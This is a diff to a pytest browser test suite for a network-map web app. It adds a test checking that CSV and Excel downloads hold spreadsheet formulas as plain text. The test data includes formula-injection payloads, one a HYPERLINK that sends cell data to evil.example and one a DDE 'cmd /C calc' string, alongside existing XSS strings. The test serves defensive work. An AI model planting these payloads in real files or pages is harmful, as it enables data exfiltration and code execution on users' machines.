@@ -5,6 +5,7 @@ the app. A made-up URL parameter gets a polite notice, never a traceback."""
 from __future__ import annotations
 
 import csv
+import io
 from collections.abc import Iterator
 from pathlib import Path
 from urllib.parse import urlsplit
@@ -12,6 +13,7 @@ from urllib.parse import urlsplit
 import pytest
 
 from graph.atlas import Atlas
+from graph.cells import TRIGGERS, neutralise
 from graph.settings import Settings
 
 from .browser import CHROMIUM, OUTPUT, launch_chromium, open_page, running_app
@@ -25,6 +27,11 @@ HOSTILE_NAMES = {
     "link-care": '<a href="javascript:alert(3)">klik</a>',
     "close-lib": "</script><script>alert(4)</script><img src=x onerror=alert(5)>",
 }
+# Names that a spreadsheet would run as formulas: every download must hold them as text.
+FORMULA_NAMES = {
+    "formula-lib": '=HYPERLINK("http://evil.example/?x="&A1,"klik")',
+    "formula-care": "@SUM(1+1)*cmd|' /C calc'!A0",
+}
 DRAWING = "Netwerktekening van bibliotheken en zorgorganisaties"
 LOCAL_SCHEMES = {"data", "about", "blob"}
 
@@ -32,11 +39,12 @@ LOCAL_SCHEMES = {"data", "about", "blob"}
 def _write_hostile_network(folder: Path) -> None:
     """Two libraries and two care organisations with hostile names, all working with each other."""
     folder.mkdir()
-    ids = list(HOSTILE_NAMES)
+    names = {**HOSTILE_NAMES, **FORMULA_NAMES}
+    ids = list(names)
     rows = {
         "organisations": [
-            {"id": key, "name": name, "kind": "library" if key.endswith("lib") else "care"}
-            for key, name in HOSTILE_NAMES.items()
+            {"id": key, "name": neutralise(name), "kind": "library" if key.endswith("lib") else "care"}
+            for key, name in names.items()
         ],
         "sites": [
             {
@@ -54,7 +62,7 @@ def _write_hostile_network(folder: Path) -> None:
             for library in ids
             if library.endswith("lib")
             for care in ids
-            if care.endswith("care")
+            if care.endswith("care") and library.startswith("formula") == care.startswith("formula")
         ],
     }
     for name, table in rows.items():
@@ -112,6 +120,13 @@ def test_hovering_every_node_with_a_hostile_name_shows_it_as_text(page, server: 
     open_page(page, server, "/network", "Netwerk")
     inner, frame = _drawing_frame(page)
     box = inner.bounding_box()
+    frame.wait_for_function(
+        """([width, height]) => Object.values(atlasNetwork.getPositions()).every((point) => {
+            const shown = atlasNetwork.canvasToDOM(point);
+            return shown.x >= 0 && shown.y >= 0 && shown.x <= width && shown.y <= height; })""",
+        arg=[box["width"], box["height"]],
+        timeout=10_000,
+    )
     nodes = frame.evaluate(
         """() => Object.entries(atlasNetwork.getPositions()).map(([id, point]) =>
             Object.assign({id: id}, atlasNetwork.canvasToDOM(point)))"""
@@ -184,3 +199,22 @@ def test_made_up_url_parameters_get_a_notice_not_a_traceback(page, server: str, 
     for leak in ("Traceback", ".py", "/work/", "site-packages", "Error:"):
         assert leak not in main
     assert page.dialogs == [] and page.locator("img[src='x']").count() == 0
+
+
+def test_downloads_in_the_browser_hold_formulas_as_text(page, server: str) -> None:  # type: ignore[no-untyped-def]
+    from openpyxl import load_workbook
+
+    open_page(page, server, "/questions?q=organisations-by-partners", "Vragen")
+    files = {}
+    for label in ("Download CSV", "Download Excel"):
+        with page.expect_download() as download:
+            page.get_by_role("button", name=label).first.click()
+        files[label] = Path(download.value.path())
+    with open(files["Download CSV"], encoding="utf-8", newline="") as handle:
+        cells = [cell for row in csv.reader(handle) for cell in row]
+    assert {"'" + name for name in FORMULA_NAMES.values()} <= set(cells)
+    assert [cell for cell in cells if cell.startswith(TRIGGERS)] == []
+    workbook = load_workbook(io.BytesIO(files["Download Excel"].read_bytes()))  # saved without a suffix
+    excel = [cell for sheet in workbook for row in sheet.iter_rows() for cell in row if cell.value is not None]
+    assert {"'" + name for name in FORMULA_NAMES.values()} <= {cell.value for cell in excel}
+    assert [cell.coordinate for cell in excel if cell.data_type == "f"] == []
